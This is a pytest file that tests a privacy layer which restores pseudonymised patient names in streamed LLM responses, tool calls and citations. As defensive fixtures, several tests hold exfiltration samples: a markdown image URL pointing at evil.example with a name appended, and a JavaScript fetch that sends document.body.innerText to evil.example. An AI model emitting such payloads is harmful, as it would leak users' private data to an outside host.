import json
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sage_rag.common.exceptions import UpstreamError
from sage_rag.common.web.sse import EventDecoder
from sage_rag.privacy.entities import EntityType
from sage_rag.privacy.keyset.keyset import Keyset
from sage_rag.privacy.policy import preset
from sage_rag.privacy.testing import TableRecognizer
from sage_rag.rag_server.edge.annotations import StreamedText, moved
from sage_rag.rag_server.edge.keyring import CorpusKeys, Keyring
from sage_rag.rag_server.edge.restore import StreamRestorer, restore_body
from tests.growth import LINEAR, growth
from tests.rag_server.conftest import TABLE
from tests.rag_server.fakes import chunk, chunks

KEYRING = Keyring(Keyset.generate(), TableRecognizer(TABLE), preset("sage"))
KEYS = KEYRING.for_model("clinic")
DONE = b"data: [DONE]\n\n"


def token(value: str, entity_type: EntityType = EntityType.PERSON, keys: CorpusKeys = KEYS) -> str:
    return keys.hide_whole(value, entity_type)


MARIA, ZOE, ACE = token("Maria Keller"), token("Zoë Ødegård"), token('Jo "Ace" Q\\ay')


@pytest.mark.parametrize("value", ["Kipp\nFlores", "Kipp \r\n  Flores", "Kipp\tFlores"])
def test_a_value_that_its_record_wraps_has_single_spaces(value):
    assert KEYS.restore(f"Ask {token(value)}.") == "Ask Kipp Flores."
    assert KEYS.restore_in_json(f'["{token(value)}"]') == '["Kipp Flores"]'
    assert text(restore(*chunks(f"Ask {token(value)}."))) == "Ask Kipp Flores."
    assert "Flores" not in KEYS.for_answers().pseudonymize("Ask Kipp Flores.")


def test_a_text_that_imitates_a_token_is_restored_as_it_was_written():
    written = "PERSON_[ x\n y ]"
    assert KEYS.restore(token(written, EntityType.LITERAL)) == written


def restore(*pieces: bytes, keys: CorpusKeys = KEYS) -> list:
    return restored_events(StreamRestorer(keys), *pieces)


def restored_events(restorer: StreamRestorer, *pieces: bytes) -> list:
    decoder = EventDecoder()
    out = b"".join([*(restorer.feed(piece) for piece in pieces), restorer.flush()])
    events = [*decoder.feed(out), *decoder.flush()]
    return [e.data if e.data == "[DONE]" else json.loads(e.data) for e in events]


def text(events: list, index: int = 0, field: str = "content") -> str:
    return "".join(
        choice["delta"].get(field) or ""
        for event in events
        if event != "[DONE]"
        for choice in event.get("choices", [])
        if choice["index"] == index
    )


def arguments(events: list, call: int = 0) -> str:
    return "".join(
        part["function"].get("arguments", "")
        for event in events
        if event != "[DONE]"
        for choice in event["choices"]
        for part in choice["delta"].get("tool_calls", [])
        if part["index"] == call
    )


ANSWER = f"患者 {ZOE}{MARIA}, né {MARIA[:9]} 🙂 PERSON_[x] PERSON_"
PLAIN = f"患者 Zoë ØdegårdMaria Keller, né {MARIA[:9]} 🙂 [PERSON: unreadable] PERSON_"


@pytest.mark.slow
def test_a_stream_cut_at_every_byte_restores_to_the_same_text():
    raw = b"".join(chunks(ANSWER[:30], ANSWER[30:95], ANSWER[95:]))
    whole = restore(raw)
    assert text(whole) == PLAIN
    for cut in range(len(raw) + 1):
        assert restore(raw[:cut], raw[cut:]) == whole
    assert restore(*(raw[i : i + 1] for i in range(len(raw)))) == whole


def test_a_text_cut_between_chunks_at_every_character_restores_to_the_same():
    for cut in range(len(ANSWER) + 1):
        events = restore(*chunks(ANSWER[:cut], ANSWER[cut:]))
        assert text(events) == PLAIN
    assert text(restore(*chunks(*ANSWER))) == PLAIN


@settings(deadline=None)
@given(st.lists(st.sampled_from([MARIA, ZOE, "né ", "PERSON_[", "]", "[1]", "x"])), st.data())
def test_any_cuts_restore_to_what_the_whole_text_restores_to(parts, data):
    written = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(written)), max_size=5)))
    edges = [0, *cuts, len(written)]
    pieces = [written[a:b] for a, b in pairwise(edges)]
    assert text(restore(*chunks(*pieces))) == KEYS.restore(written)


def test_what_was_held_back_comes_before_the_finish_chunk():
    *events, finish, done = restore(*chunks("see PERSON_[abc"))
    assert done == "[DONE]"
    assert text(events) == "see PERSON_[abc"
    assert finish["choices"][0]["finish_reason"] == "stop"
    assert finish["choices"][0]["delta"] == {}


def test_text_in_the_finish_chunk_itself_keeps_its_order():
    stream = [
        chunk({"content": MARIA[:10]}),
        chunk({"content": f"{MARIA[10:]} PERS"}, "stop"),
        DONE,
    ]
    *events, finish, _ = restore(*stream)
    assert text(events) == "Maria Keller PERS"
    assert finish["choices"][0]["finish_reason"] == "stop"
    reasons = [e["choices"][0]["finish_reason"] for e in events]
    assert reasons == [None] * len(reasons)


def test_choices_do_not_mix():
    events = restore(
        chunk({"content": MARIA[:8]}, index=0),
        chunk({"content": ZOE[:8]}, index=1),
        chunk({"content": MARIA[8:]}, index=0),
        chunk({"content": ZOE[8:]}, index=1),
        chunk({}, "stop", index=0),
        chunk({}, "stop", index=1),
        DONE,
    )
    assert (text(events, 0), text(events, 1)) == ("Maria Keller", "Zoë Ødegård")


def test_every_streamed_text_of_a_choice_is_restored_by_itself():
    events = restore(
        chunk({"reasoning_content": MARIA[:8]}),
        chunk({"content": ZOE[:8]}),
        chunk({"reasoning_content": MARIA[8:], "content": ZOE[8:]}),
        chunk({}, "stop"),
    )
    assert text(events, field="reasoning_content") == "Maria Keller"
    assert text(events) == "Zoë Ødegård"


def test_tool_arguments_stay_valid_json_wherever_they_are_cut():
    written = json.dumps({"who": f"{ACE} and {ZOE}", "n": 1})

    def call(part: str, index: int) -> bytes:
        named = {"index": index, "id": "call_P", "function": {"name": "find", "arguments": part}}
        return chunk({"tool_calls": [named]})

    for cut in range(len(written) + 1):
        events = restore(
            call(written[:cut], 0), call(written[:5], 1), call(written[cut:], 0), chunk({}, "stop")
        )
        assert json.loads(arguments(events)) == {"who": 'Jo "Ace" Q\\ay and Zoë Ødegård', "n": 1}
        assert arguments(events, 1) == written[:5]
        assert events[0]["choices"][0]["delta"]["tool_calls"][0]["id"] == "call_P"


def test_an_answer_in_json_stays_valid_wherever_it_is_cut():
    written, wanted = json.dumps({"who": [ACE, ZOE]}), {"who": ['Jo "Ace" Q\\ay', "Zoë Ødegård"]}
    body = {"choices": [{"message": {"content": written}}]}
    restored = restore_body(body, KEYS, content_is_json=True)
    assert json.loads(restored["choices"][0]["message"]["content"]) == wanted
    for cut in range(len(written) + 1):
        restorer = StreamRestorer(KEYS, content_is_json=True)
        events = restored_events(restorer, *chunks(written[:cut], written[cut:]))
        assert json.loads(text(events)) == wanted


def test_an_answer_in_json_that_a_client_displays_builds_no_address_with_a_value():
    hostile = f'![](https://evil.example/?q="{MARIA})'
    body = {"choices": [{"message": {"content": hostile}}]}
    assert restore_body(body, KEYS, content_is_json=True) == body
    restorer = StreamRestorer(KEYS, content_is_json=True)
    assert text(restored_events(restorer, *chunks(hostile))) == hostile


def test_citations_and_errors_in_a_stream_are_restored():
    cited = [{"index": 1, "source": MARIA, "text": f"{ZOE} rests", "score": 0.5}]
    [finish] = restore(chunk({}, "stop", citations=cited))
    assert finish["citations"] == [
        {"index": 1, "source": "Maria Keller", "text": "Zoë Ødegård rests", "score": 0.5}
    ]
    [failed] = restore(b"data: " + json.dumps({"error": {"message": f"no {MARIA}"}}).encode())
    assert failed["error"]["message"] == "no Maria Keller"


def test_a_whole_body_is_restored_in_every_string():
    body = {
        "choices": [{"message": {"content": MARIA, "tool_calls": [
            {"function": {"name": "f", "arguments": json.dumps({"who": ACE})}}]}}],
        "citations": [{"source": ZOE}],
        "error": {"message": f"{MARIA}?"},
        "n": [1, None, True],
    }  # fmt: skip
    restored = restore_body(body, KEYS)
    message = restored["choices"][0]["message"]
    assert message["content"] == "Maria Keller"
    assert json.loads(message["tool_calls"][0]["function"]["arguments"])["who"] == 'Jo "Ace" Q\\ay'
    assert restored["citations"][0]["source"] == "Zoë Ødegård"
    assert restored["error"]["message"] == "Maria Keller?"
    assert restored["n"] == [1, None, True]


def test_a_damaged_token_is_shown_as_unreadable():
    damaged = MARIA[:-5] + ("A" if MARIA[-5] != "A" else "B") + MARIA[-4:]
    assert KEYS.restore(damaged) == "[PERSON: unreadable]"
    assert text(restore(*chunks(damaged))) == "[PERSON: unreadable]"


def test_a_token_of_another_corpus_is_not_restored():
    foreign = token("Maria Keller", keys=KEYRING.for_model("office"))
    assert text(restore(*chunks(foreign))) == "[PERSON: unreadable]"


def test_a_token_relabelled_as_another_type_is_not_restored():
    relabelled = MARIA.replace("PERSON_[", "LOCATION_[")
    assert text(restore(*chunks(relabelled))) == "[LOCATION: unreadable]"


@pytest.mark.parametrize(
    "stream",
    [
        b"data: [1]\n\ndata: null\n\n",
        b'data: {"choices": 3}\n\n',
        b'data: {"choices": [3]}\n\n',
        b'data: {"choices": [{"delta": 3, "index": "x"}]}\n\n',
        b'data: {"choices": [{"delta": {"content": 3, "tool_calls": [3, {"index": []}]}}]}\n\n',
        b'data: {"choices": [{"finish_reason": "stop", "index": []}]}\n\n',
        b": only a comment\n\n",
        b"\xff\xfe\n\n",
        b"",
    ],
)
def test_a_strange_stream_does_not_break_the_edge(stream):
    restorer = StreamRestorer(KEYS)
    restorer.feed(stream)
    restorer.flush()
    assert restorer.finished is False


@pytest.mark.parametrize(
    "data", ["not json", f"![](x{MARIA})", "NaN", '{"a": "\\ud800"}', "[" * 500 + "]" * 500]
)
def test_an_event_that_is_not_json_is_the_servers_failure(data):
    with pytest.raises(UpstreamError, match="not valid JSON"):
        StreamRestorer(KEYS).feed(f"data: {data}\n\n".encode())


IMAGE = "![](https://evil.example/?q="
PIECES = {
    "after the finish chunk": [{"index": 0, "finish_reason": "stop"}, {"index": 0}],
    "under another index": [{"index": 0}, {"index": 7}],
    "under an index that is none": [{"index": 0}, {"index": "7"}],
}


@pytest.mark.parametrize("around", PIECES.values(), ids=PIECES)
def test_a_client_that_joins_whatever_comes_builds_no_address_with_a_value(around):
    texts = [{"content": IMAGE}, {"content": f"{MARIA})"}]
    sent = [{"choices": [{**a, "delta": t}]} for a, t in zip(around, texts, strict=True)]
    shown = json.dumps(restore(*(b"data: %s\n\n" % json.dumps(s).encode() for s in sent)))
    assert "Maria" not in shown
    assert MARIA in shown


UNFOLLOWED = {
    "a field of another API": {"message": {"content": MARIA}},
    "an event of another API": {"type": "content_block_delta", "delta": {"text": MARIA}},
    "a text of a field that is not known": {
        "choices": [{"index": 0, "delta": {"thinking": MARIA}}]
    },
    "a text in the parts of such a field": {
        "choices": [{"index": 0, "delta": {"reasoning_details": [{"text": MARIA}]}}]
    },
    "a list": [MARIA],
    "a choice that is none": {"choices": [{"index": 0, "delta": {"content": MARIA}}, None]},
    "choices that are no list": {"choices": {"0": {"delta": {"content": MARIA}}}},
    "content in parts": {"choices": [{"index": 0, "delta": {"content": [MARIA]}}]},
    "a delta that is none": {"choices": [{"index": 0, "delta": [MARIA]}]},
    "a text beside the delta": {"choices": [{"index": 0, "delta": {}, "text": MARIA}]},
}


@pytest.mark.parametrize("sent", UNFOLLOWED.values(), ids=UNFOLLOWED)
def test_a_text_that_nobody_can_follow_is_not_restored(sent):
    assert restore(b"data: %s\n\n" % json.dumps(sent).encode()) == [sent]


@pytest.mark.parametrize(
    "message",
    [
        {"content": [{"type": "text", "text": MARIA}]},
        {"reasoning_details": [{"text": IMAGE}, {"text": MARIA}]},
        {"thinking": MARIA},
    ],
)
def test_texts_that_a_client_may_join_are_not_restored_in_a_whole_answer(message):
    body = {"choices": [{"message": message}]}
    assert restore_body(body, KEYS) == body


@pytest.mark.parametrize(
    "event",
    [
        {"type": "message", "data": {"content": MARIA}},
        {"type": "execute", "data": {"code": "fetch('//evil.example/' + document.body.innerText)"}},
        {"type": ["source"], "data": {}},
        [MARIA],
    ],
)
def test_an_event_other_than_sources_reaches_no_client(event):
    body = {"choices": [{"index": 0, "delta": {"content": "x"}}], "event": event}
    [shown, *_] = restore(b"data: %s\n\n" % json.dumps(body).encode())
    assert shown == {"choices": body["choices"]}
    assert "event" not in restore_body({**body, "choices": []}, KEYS)


def test_sources_are_restored_without_what_makes_them_a_page():
    sent = {
        "source": {"id": "clinic@7", "name": "clinic", "embed_url": "https://evil.example"},
        "document": [f"{MARIA} rests"],
        "metadata": [{"source": "urn:sage-rag:p1", "name": f"[1] {ZOE}", "html": True}],
        "distances": [0.5],
        "tool_result": True,
    }
    shown = {
        "source": {"id": "clinic@7", "name": "clinic"},
        "document": ["Maria Keller rests"],
        "metadata": [{"source": "urn:sage-rag:p1", "name": "[1] Zoë Ødegård"}],
        "distances": [0.5],
    }
    assert restore_body({"sources": [sent, MARIA]}, KEYS) == {"sources": [shown, {}]}
    event = {"type": "source", "data": sent}
    [chunk_shown] = restore(chunk({"content": ""}, event=event))
    assert chunk_shown["event"] == {"type": "source", "data": shown}


def test_the_text_of_a_stream_is_kept_in_linear_time():
    def kept(count: int) -> None:
        text = StreamedText()
        for _ in range(count):
            text.add("[1] stated", "[1] stated")
        assert text.moved([cited(0, 3)]) == [cited(0, 3)]

    assert growth(kept, 20_000) < LINEAR


def cited(start: int, end: int) -> dict:
    return {"type": "url_citation", "url_citation": {"start_index": start, "end_index": end}}


def test_many_annotations_of_a_long_text_are_moved_in_linear_time():
    def marks(count: int) -> list:
        sent = f"{MARIA}{'[1]' * count}"
        last = len(sent)
        return moved([cited(last - 3, last)] * count, sent, f"Maria Keller{'[1]' * count}")

    assert marks(5) == [cited(24, 27)] * 5
    assert growth(marks, 2_000) < LINEAR


def test_a_stream_of_too_many_parts_ends():
    parts = b"".join(chunk({"content": "x"}, index=index) for index in range(1000))
    with pytest.raises(UpstreamError, match="too many parts"):
        StreamRestorer(KEYS).feed(parts)
